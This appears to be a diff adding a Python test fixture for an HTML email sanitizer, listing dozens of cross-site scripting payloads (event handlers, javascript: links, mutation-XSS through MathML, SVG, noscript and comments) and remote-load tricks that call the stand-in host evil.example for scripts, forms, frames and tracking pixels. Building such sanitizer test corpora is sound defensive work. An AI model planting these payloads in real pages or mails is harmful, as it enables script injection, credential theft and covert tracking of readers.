@@ -1,0 +1,118 @@
+"""What hostile mails try on whoever opens them; `evil.example` must never hear of it."""
+
+from typing import Final
+
+RUNS: Final = {
+    "script": "<script>steal()</script>",
+    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
+    "script never closed": "<script src=https://evil.example/x.js",
+    "script closed within": "<scr<script>ipt>steal()</scr</script>ipt>",
+    "script after a null": "<scr\0ipt>steal()</script>",
+    "handler": '<p onclick="steal()">text</p>',
+    "handler in capitals": "<p ONMOUSEOVER=steal()>text</p>",
+    "handler behind a slash": "<img/src/onerror=steal()>",
+    "handler of a broken picture": '<img src=x: onerror="steal()">',
+    "handler in a quote that ends early": '<img alt="a"onerror="steal()">',
+    "handler behind a line break": '<p\n\x0confocus\n=\n"steal()" autofocus tabindex=1>text</p>',
+    "handler of an animation": "<b onanimationstart=steal() style='animation: x 1s'>text</b>",
+    "handler of details": "<details open ontoggle=steal()>text</details>",
+    "handler of the body": '<body onload="steal()">text</body>',
+    "handler with a backtick": "<img alt=`a`onerror=steal()``>",
+    "svg that loads": '<svg onload="steal()"><circle r="3"/></svg>',
+    "svg with a script": "<svg><script>steal()</script></svg>",
+    "svg that animates a link": (
+        '<svg><a><animate attributeName=href values="javascript:steal()"/><text>x</text></a></svg>'
+    ),
+    "svg that uses another": '<svg><use href="data:image/svg+xml,<svg id=x onload=steal()>#x"/>',
+    "svg with a foreign object": "<svg><foreignObject><img src=x onerror=steal()></foreignObject>",
+    "mathml with a link": '<math href="javascript:steal()"><mtext>text</mtext></math>',
+    "mathml whose source is text": (
+        '<math><annotation-xml encoding="text/html"><img src=x onerror=steal()></annotation-xml>'
+    ),
+    "mutation through a style in mathml": (
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
+        "&lt;img src=1 onerror=steal()&gt;'>"
+    ),
+    "mutation through forms in mathml": (
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>"
+    ),
+    "mutation through a title in svg": (
+        '<svg></p><title><style></title><img title="</style><img src onerror=steal()>">'
+    ),
+    "mutation through noscript": (
+        '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>'
+    ),
+    "mutation through a template": "<template><s><template><s><img src=x onerror=steal()>x</s>",
+    "mutation through a text area": '<textarea><b title="</textarea><img onerror=steal()>">',
+    "mutation through an unknown raw text": "<xmp><p title='</xmp><img src=x onerror=steal()>'>",
+    "mutation through a listing": "<listing>&lt;img onerror=steal()&gt;</listing>",
+    "mutation through a comment": "<!--><img src=x onerror=steal()>-->",
+    "mutation through a comment that ends oddly": "<!-- --!><img src=x onerror=steal()> -->",
+    "mutation through CDATA": "<![CDATA[<img src=x onerror=steal()>]]>",
+    "mutation through a table": "<table><td><script>steal()</td></table><img onerror=steal()>",
+    "mutation through a select": "<select><option><style></select><img src onerror=steal()>",
+    "conditional comment": "<!--[if gte mso 9]><script>steal()</script><![endif]-->",
+    "processing instruction": "<?xml version='1'?><img src=x onerror=steal()?>",
+    "link that runs": '<a href="javascript:steal()">link</a>',
+    "link that runs, split by a tab": '<a href="java\tscript:steal()">link</a>',
+    "link that runs, behind a control": '<a href="\x01javascript:steal()">link</a>',
+    "link that runs, as entities": "<a href='&#106;avascript&colon;steal()'>link</a>",
+    "link that runs, by VBScript": '<a href="vbscript:steal()">link</a>',
+    "link that carries its page": '<a href="data:text/html,<script>steal()</script>">link</a>',
+    "link to a blob": '<a href="blob:https://help.example.org/1">link</a>',
+    "link to a file": '<a href="file:///etc/passwd">link</a>',
+    "picture that runs": '<img src="javascript:steal()">',
+    "form": '<form action="https://evil.example"><input name=p><button>Go</button></form>',
+    "form around a link": '<form><button formaction="javascript:steal()">Go</button></form>',
+    "picture that sends": '<input type="image" src="https://evil.example/x.png" onerror=steal()>',
+    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
+    "base": '<base href="https://evil.example/"><a href="x">link</a>',
+    "frame": '<iframe src="https://evil.example"></iframe>',
+    "frame with its page inside": '<iframe srcdoc="<script>steal()</script>"></iframe>',
+    "object": '<object data="https://evil.example/x.swf"><param name=src></object>',
+    "embed": '<embed src="https://evil.example/x.swf">',
+    "portal": '<portal src="https://evil.example"></portal>',
+    "names that shadow the page's": '<a id="desk" name="location">x</a><img name="body">',
+    "classes of the page": '<div class="toast button primary" id="toast">Signed out</div>',
+    "link in this window": '<a href="https://shop.example" target="_top">link</a>',
+    "link that knows its opener": '<a href="https://shop.example" rel="opener">link</a>',
+}
+
+ASKS: Final = {
+    "picture": '<img src="https://evil.example/pixel.gif" width=1 height=1>',
+    "picture without a scheme": '<img src="//evil.example/pixel.gif">',
+    "picture beside this page": '<img src="/v1/conversations">',
+    "picture of ours": '<img src="https://help.example.org/v1/files">',
+    "picture of another mail": '<img src="cid:other@shop.example">',
+    "picture inside itself": '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
+    "picture in several sizes": '<img srcset="https://evil.example/a.png 1x" sizes="100vw">',
+    "picture with a choice": '<picture><source srcset="//evil.example/a.webp"><img></picture>',
+    "background": '<table background="https://evil.example/a.png"><td>x</td></table>',
+    "background of a cell": '<table><td background="//evil.example/a.png">x</td></table>',
+    "style with a picture": '<p style="background:url(https://evil.example/a.png)">x</p>',
+    "style with a quoted picture": "<p style='background-image:url(\"//evil.example\")'>x</p>",
+    "style with an escaped picture": r'<p style="background:\75\72\6c(//evil.example)">x</p>',
+    "style with a comment": '<p style="background:u/**/rl(//evil.example)">x</p>',
+    "style with a set of pictures": "<p style=\"background:image-set('//evil.example' 1x)\">x</p>",
+    "style with a list's picture": '<ul style="list-style:url(//evil.example/a.png)"><li>x</ul>',
+    "style with a pointer": '<p style="cursor:url(//evil.example/a.cur),auto">x</p>',
+    "style with content": '<p style="content:url(//evil.example/a.png)">x</p>',
+    "style with a filter": '<p style="filter:url(//evil.example/a.svg#f)">x</p>',
+    "style that runs": '<p style="width:expression(steal())">x</p>',
+    "style with a binding": '<p style="-moz-binding:url(//evil.example/a.xml#x)">x</p>',
+    "style sheet": "<style>@import url(https://evil.example/a.css);</style>",
+    "style sheet elsewhere": '<link rel="stylesheet" href="https://evil.example/a.css">',
+    "asking for a name": '<link rel="dns-prefetch" href="//evil.example">',
+    "font elsewhere": "<style>@font-face{font-family:x;src:url(//evil.example/a.woff)}</style>",
+    "sound": '<audio src="https://evil.example/a.ogg" autoplay></audio>',
+    "film with a picture": '<video poster="https://evil.example/a.png"><source src=x></video>',
+    "track": '<video><track src="https://evil.example/a.vtt" default></video>',
+    "picture of a vector": '<svg><image href="https://evil.example/a.png"/></svg>',
+    "ping of a link": '<a href="https://shop.example" ping="https://evil.example">link</a>',
+    "manifest": '<html manifest="https://evil.example/a.mf"><body>x</body></html>',
+    "attribution": '<a href="https://shop.example" attributionsrc="https://evil.example">x</a>',
+    "long description": '<img longdesc="https://evil.example" lowsrc="https://evil.example/a.png">',
+    "old frames": '<frameset><frame src="https://evil.example"></frameset>',
+    "old layers": '<layer src="https://evil.example"></layer><ilayer src="//evil.example"/>',
+    "old background sound": '<bgsound src="https://evil.example/a.mid">',
+}
